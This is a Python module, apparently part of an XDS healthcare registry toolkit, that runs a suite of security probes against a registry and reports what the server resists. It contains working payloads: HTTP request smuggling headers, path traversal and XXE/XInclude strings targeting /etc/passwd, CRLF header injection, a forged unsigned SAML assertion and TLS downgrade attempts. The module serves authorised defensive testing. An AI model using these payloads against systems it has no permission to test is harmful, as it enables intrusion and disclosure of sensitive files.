"""Harmless attacks on an XDS server that one is allowed to try: what it resists, and what not.

Nothing is stored, nothing is kept busy: each attack is one or two short requests on a connection of its own.
"""

from __future__ import annotations

import re
import socket
import ssl
import warnings
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from functools import partial
from urllib.parse import SplitResult, urlsplit

from lxml import etree

from xds.ebxml import query
from xds.ebxml.rim import Slot
from xds.errors import Unusable
from xds.queries.catalogue import FIND_DOCUMENTS
from xds.transactions.iti18_registry_stored_query import TRANSACTION as ITI_18
from xds.wire.xml import NAMESPACES

SECONDS = 5.0
"""For which an answer is waited for."""
MOST_BYTES = 1024 * 1024
"""Of it that are read."""

_UNKNOWN_ACTION = "urn:ihe:iti:2007:NoSuchTransaction"
_EVIL = "hostile.invalid"  # RFC 2606: a name that nobody has
_LEAKS = (b"root:x:", b"Traceback (most recent call last)", b"at java.lang.", b"at org.apache.")


@dataclass(frozen=True, slots=True)
class Outcome:
    """``resisted`` is None where an attack does not apply; ``said``: what came back instead of a refusal."""

    name: str
    resisted: bool | None
    said: str = ""


@dataclass(frozen=True, slots=True)
class Server:
    """A registry's SOAP address, and what is presented there."""

    url: str
    certificate: str = ""
    key: str = ""
    trusted: str = ""

    @property
    def at(self) -> SplitResult:
        return urlsplit(self.url)

    @property
    def is_secure(self) -> bool:
        return self.at.scheme == "https"

    def context(self, *, anonymous: bool = False) -> ssl.SSLContext:
        """As who is allowed to ask; or as nobody.

        Raises:
            Unusable: a file cannot be used.
        """
        try:
            context = ssl.create_default_context(cafile=self.trusted or None)
            if self.certificate and not anonymous:
                context.load_cert_chain(self.certificate, self.key or None)
        except OSError as problem:
            raise Unusable(f"TLS: {problem}") from None
        return context

    def ask(self, data: bytes, context: ssl.SSLContext | None = None) -> bytes:
        """Send bytes; what comes back until the other side closes, or says nothing for a while.

        Raises:
            OSError: nobody is there, or TLS fails.
        """
        host, port = self.at.hostname or "", self.at.port or (443 if self.is_secure else 80)
        with socket.create_connection((host, port), SECONDS) as plain:
            if not self.is_secure:
                return _exchanged(plain, data)
            with (context or self.context()).wrap_socket(plain, server_hostname=host) as stream:
                return _exchanged(stream, data)

    def head(self, line: str = "", *headers: str) -> bytes:
        """A request's header; a POST to the registry where nothing else is asked."""
        line = line or f"POST {self.at.path or '/'} HTTP/1.1"
        host = () if any(one.startswith("Host:") for one in headers) else (f"Host: {self.at.netloc}",)
        return "".join(f"{one}\r\n" for one in (line, *host, *headers)).encode("latin-1") + b"\r\n"

    def post(self, envelope: bytes) -> bytes:
        """Send a SOAP 1.2 message."""
        kind = "Content-Type: application/soap+xml; charset=UTF-8"
        return self.ask(self.head("", kind, f"Content-Length: {len(envelope)}", "Connection: close") + envelope)


def _exchanged(stream: socket.socket, data: bytes) -> bytes:
    found = b""
    stream.settimeout(SECONDS)
    try:
        stream.sendall(data)
        while len(found) < MOST_BYTES:
            piece = stream.recv(65536)
            if not piece:
                break
            found += piece
            stream.settimeout(1.0)  # what else there is comes at once
    except (TimeoutError, ConnectionError):
        pass
    return found


def _statuses(reply: bytes) -> list[int]:
    return [int(one) for one in re.findall(rb"HTTP/1\.[01] (\d{3})", reply)]


# What was said instead of a refusal; empty where there was one.


def _refused(reply: bytes) -> str:
    """An error, or a connection that was closed."""
    leaked = _leaked(reply)
    statuses = _statuses(reply)
    return leaked or ("" if not statuses or statuses[0] >= 400 else f"answered with HTTP {statuses[0]}")


def _faulted(reply: bytes) -> str:
    """The same, or a SOAP fault, or a response that says Failure."""
    leaked = _leaked(reply)
    if leaked or not _refused(reply) or b"Fault>" in reply or b"ResponseStatusType:Failure" in reply:
        return leaked
    return "answered with success"


def _leaked(reply: bytes) -> str:
    return next((f"it gave out {leak.decode()!r}" for leak in _LEAKS if leak in reply), "")


def _one_answer(reply: bytes) -> str:
    """The same, and no other that is one to the hidden request: what closes the connection may be a second error."""
    if any(status < 400 for status in _statuses(reply)[1:]):
        return "the request hidden in the body was answered, too"
    return _refused(reply)


# HTTP.  RFC 9112: 6.1, 6.3 (one way only to say where a body ends), 5.1, 5.2 (no space before a colon, no folding).

_SMUGGLED: Sequence[tuple[str, Sequence[str], bytes]] = (
    ("Content-Length and Transfer-Encoding", ("Content-Length: 5", "Transfer-Encoding: chunked"), b"0\r\n\r\n"),
    ("two Content-Lengths", ("Content-Length: 0", "Content-Length: 38"), b""),
    ("a list of Content-Lengths", ("Content-Length: 0, 38",), b""),
    ("Content-Length with a sign", ("Content-Length: +0",), b""),
    ("Content-Length in hexadecimal", ("Content-Length: 0x26",), b""),
    ("an unknown Transfer-Encoding", ("Transfer-Encoding: xchunked",), b"0\r\n\r\n"),
    ("chunked, and not last", ("Transfer-Encoding: chunked, identity",), b"0\r\n\r\n"),
    ("a folded Transfer-Encoding", ("Transfer-Encoding:\r\n chunked", "Content-Length: 5"), b"0\r\n\r\n"),
    ("a space before the colon", ("Transfer-Encoding : chunked", "Content-Length: 5"), b"0\r\n\r\n"),
    ("a chunk of negative size", ("Transfer-Encoding: chunked",), b"-1\r\n\r\n"),
    ("a chunk size with 0x", ("Transfer-Encoding: chunked",), b"0x0\r\n\r\n"),
)


def _smuggle(headers: Sequence[str], body: bytes, server: Server) -> str:
    hidden = server.head(f"GET {server.at.path}?wsdl HTTP/1.1")
    return _one_answer(server.ask(server.head("", *headers) + body + hidden))


def _request(line: str, headers: Sequence[str], server: Server) -> str:
    return _refused(server.ask(server.head(line, *headers)))


def _trace(server: Server) -> str:
    reply = server.ask(server.head("TRACE / HTTP/1.1", "X-Secret: hostile-secret"))
    return "it gives back what it was sent" if b"hostile-secret" in reply else ""


def _traversal(path: str, server: Server) -> str:
    return _leaked(server.ask(server.head(f"GET {path} HTTP/1.1", "Connection: close")))


def _header_injected(server: Server) -> str:
    line = f"GET {server.at.path}%0d%0aX-Injected:%20yes HTTP/1.1"
    head = server.ask(server.head(line, "Connection: close")).partition(b"\r\n\r\n")[0]
    return "a header could be put into its answer" if b"\r\nX-Injected:" in head else ""


def _host(server: Server) -> str:
    reply = server.ask(server.head(f"GET {server.at.path}?wsdl HTTP/1.1", f"Host: {_EVIL}", "Connection: close"))
    return "its answer names the Host that it was sent" if _EVIL.encode() in reply else _refused(reply)


def _security_headers(server: Server) -> str:
    reply = server.ask(server.head(f"GET {server.at.path}?wsdl HTTP/1.1", "Connection: close"))
    head = reply.partition(b"\r\n\r\n")[0].lower()
    wanted = {b"x-content-type-options: nosniff": "X-Content-Type-Options", b"no-store": "Cache-Control: no-store"}
    wanted |= {b"strict-transport-security:": "Strict-Transport-Security"} if server.is_secure else {}
    missing = [said for mark, said in wanted.items() if mark not in head]
    return f"without {', '.join(missing)}" if missing else ""


# SOAP and XML.


def _envelope(body: bytes, action: str = "", header: bytes = b"", prolog: bytes = b"") -> bytes:
    namespaces = f'xmlns:s="{NAMESPACES["soap"]}" xmlns:a="{NAMESPACES["wsa"]}"'
    action = f"<a:Action>{action or ITI_18.action}</a:Action><a:MessageID>urn:uuid:hostile</a:MessageID>"
    start = f"<s:Envelope {namespaces}><s:Header>{action}"
    return prolog + start.encode() + header + b"</s:Header><s:Body>" + body + b"</s:Body></s:Envelope>"


def _query(*more: str) -> bytes:
    """ITI-18 for a patient that nobody has."""
    slots = (
        Slot("$XDSDocumentEntryPatientId", ("'hostile^^^&1.2.3&ISO'",)),
        Slot("$XDSDocumentEntryStatus", ("('urn:oasis:names:tc:ebxml-regrep:StatusType:Approved')",)),
    )
    extra = (Slot("$XDSDocumentEntryClassCode", tuple(more)),) if more else ()
    return etree.tostring(query.write_request(query.AdhocQuery(FIND_DOCUMENTS.id, "ObjectRef", (*slots, *extra))))


def _soap(body: Callable[[], bytes], server: Server, action: str = "", prolog: bytes = b"") -> str:
    return _faulted(server.post(_envelope(body(), action, prolog=prolog)))


_ENTITY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_INSIDE = b'<!DOCTYPE x [<!ENTITY e "e">]>'
_UTF16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "e">]><x>&e;</x>'.encode("utf-16")
_XINCLUDE = b'<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/passwd" parse="text"/></x>'

_ASSERTION = """<w:Security xmlns:w="{wsse}"><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"
 Version="2.0" ID="_hostile" IssueInstant="{begin}"><saml:Issuer>https://hostile.invalid</saml:Issuer><saml:Subject>
<saml:NameID>hostile</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"/>
</saml:Subject><saml:Conditions NotBefore="{begin}" NotOnOrAfter="{end}"/></saml:Assertion></w:Security>"""


def _assertion(begin: str, end: str, server: Server) -> str:
    header = _ASSERTION.format(wsse=NAMESPACES["wsse"], begin=begin, end=end).encode()
    said = _faulted(server.post(_envelope(_query(), header=header)))
    return said and "the message was answered, whatever its assertion says"


# TLS.


def _without_certificate(server: Server) -> str:
    return _answered(server, server.context(anonymous=True))


def _old_tls(server: Server) -> str:
    context = server.context()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        context.minimum_version = ssl.TLSVersion.TLSv1
        context.maximum_version = ssl.TLSVersion.TLSv1_1
    context.set_ciphers("DEFAULT:@SECLEVEL=0")
    return _answered(server, context)


def _answered(server: Server, context: ssl.SSLContext) -> str:
    try:
        reply = server.ask(server.head(f"GET {server.at.path}?wsdl HTTP/1.1", "Connection: close"), context)
    except (ssl.SSLError, ConnectionError):
        return ""
    return _refused(reply)


# Each attack: its name, how it is made, and whether it is TLS's.
_Attack = Callable[[Server], str]


def _attacks() -> Iterator[tuple[str, _Attack, bool]]:
    for name, headers, body in _SMUGGLED:
        yield f"smuggling: {name}", partial(_smuggle, headers, body), False
    long, many = ("X: " + "a" * 70_000,), ("a: b",) * 5000
    yield "header of 70 kB", partial(_request, "GET / HTTP/1.1", long), False
    yield "header of 5,000 lines", partial(_request, "GET / HTTP/1.1", many), False
    yield "NUL in a header", partial(_request, "GET / HTTP/1.1", ("X: a\0b",)), False
    yield "request line of no form", partial(_request, "HOSTILE", ()), False
    yield "CONNECT", partial(_request, "CONNECT 127.0.0.1:22 HTTP/1.1", ()), False
    yield "TRACE", _trace, False
    for path in ("/../../../../etc/passwd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2f..%2f..%2fetc/passwd",
                 "/registry?xsd=../../../../../../../../etc/passwd"):  # fmt: skip
        yield f"traversal: {path}", partial(_traversal, path), False
    yield "header injected by the path", _header_injected, False
    yield "Host header of another", _host, False
    yield "security headers", _security_headers, False
    yield "XML: external entity", partial(_soap, lambda: b"<x>&e;</x>", prolog=_ENTITY), False
    yield "XML: DTD", partial(_soap, lambda: b"<x>&e;</x>", prolog=_INSIDE), False
    yield "XML: DTD in UTF-16", lambda server: _faulted(server.post(_UTF16)), False
    yield "XML: XInclude", partial(_soap, lambda: _XINCLUDE), False
    yield "XML: depth of 5,000", partial(_soap, lambda: b"<a>" * 5000 + b"</a>" * 5000), False
    yield "SOAP: no XML", lambda server: _faulted(server.post(b"\0\1\2")), False
    yield "SOAP: unknown action", partial(_soap, _query, action=_UNKNOWN_ACTION), False
    yield "ITI-18 of 300 kB", partial(_soap, lambda: _query(*["('hostile^^1.2.3')"] * 15_000)), False
    yield "SAML: unsigned assertion", partial(_assertion, "2020-01-01T00:00:00Z", "2099-01-01T00:00:00Z"), False
    yield "SAML: expired assertion", partial(_assertion, "2020-01-01T00:00:00Z", "2020-01-01T00:05:00Z"), False
    yield "TLS: no client certificate", _without_certificate, True
    yield "TLS 1.0 and 1.1", _old_tls, True


def tried(server: Server) -> Iterator[Outcome]:
    """Try each.

    Raises:
        Unusable: the URL is none, or nobody answers there as who asks is known.
    """
    if server.at.scheme not in ("http", "https") or not server.at.hostname:
        raise Unusable("--url is the http or https address of a registry")
    _demand_answer(server)
    for name, attack, is_tls in _attacks():
        if is_tls and not server.is_secure:
            yield Outcome(name, None, "not over TLS")
            continue
        try:
            said = attack(server)
        except OSError as problem:
            said = f"no connection: {type(problem).__name__}"
        yield Outcome(name, not said, said)
    _demand_answer(server)


def _demand_answer(server: Server) -> None:
    try:
        reply = server.ask(server.head(f"GET {server.at.path}?wsdl HTTP/1.1", "Connection: close"))
    except OSError as problem:
        raise Unusable(f"{server.at.netloc} does not answer: {type(problem).__name__}") from None
    if not _statuses(reply):
        raise Unusable(f"{server.at.netloc} does not answer HTTP")
